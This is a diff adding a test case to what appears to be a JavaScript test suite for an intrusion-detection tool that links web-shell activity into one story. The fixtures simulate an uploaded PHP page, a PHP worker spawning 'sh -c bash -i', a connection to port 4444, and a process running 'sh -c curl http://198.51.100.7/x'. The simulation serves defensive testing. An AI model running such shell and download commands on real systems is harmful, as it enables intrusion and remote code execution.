@@ -48,6 +48,25 @@ describe('a web page that runs commands', () => {
     return { called, miner, worker };
   }
 
+  it('is told of what a worker ran that was only heard of before, and of the upload before it; the application itself is no part', () => {
+    machine.seen(900, 1, '/usr/sbin/php-fpm8.2', 'php-fpm: master process', { cgroup: '/system.slice/php8.2-fpm.service', user: 'root' });
+    const worker = machine.run(900, '/usr/sbin/php-fpm8.2', 'php-fpm: pool www', { user: 'www-data' });
+    const page = '/var/www/html/up/logo.php';
+    const put = write(machine, disk, worker, page, '<?php', { from: '/tmp/php1' });
+    disk.requests.push(event('access', { source_ip: '203.0.113.80', http_method: 'GET', url_path: '/index.php' }), event('access', { source_ip: attacker, http_method: 'POST', url_path: '/upload.php' }), event('access', { source_ip: attacker, http_method: 'POST', url_path: '/up/logo.php' }));
+    const shell = machine.fork(970);
+    machine.exec(shell, '/bin/sh', 'sh -c bash -i', { parent_pid: 971, parent_path: '/usr/sbin/php-fpm8.2', parent_cmdline: 'php-fpm: pool www' });
+    const bash = machine.run(shell, '/bin/bash', 'bash -i');
+    const story = tell(alertOf(put), alertOf(connect(machine, bash, pool, 4444)), alertOf(event('access', { source_ip: attacker, url_path: '/up/logo.php' })));
+    expect(story.entry).toMatchObject({ kind: 'web', address: attacker, request: 'POST /upload.php' });
+    const app = machine.run(1, '/usr/bin/node', 'node /srv/app/server.js', { cgroup: '/system.slice/app.service' });
+    machine.tell('listener', app, { action: 'listener-start', destination_port: 3000, protocol: 'tcp', direction: 'listening' });
+    const child = machine.run(app, '/usr/bin/node', 'node /srv/app/worker.js');
+    machine.tell('listener', child, { action: 'listener-start', destination_port: 3001, protocol: 'tcp', direction: 'listening' });
+    const ran = machine.run(child, '/bin/sh', 'sh -c curl http://198.51.100.7/x');
+    expect(members(tell(alertOf(connect(machine, ran, pool, 80))))).toEqual(['sh -c curl http://198.51.100.7/x']);
+  });
+
   it('is told from the request to the pool', () => {
     const { called } = intrusion();
     const story = tell(alertOf(called));
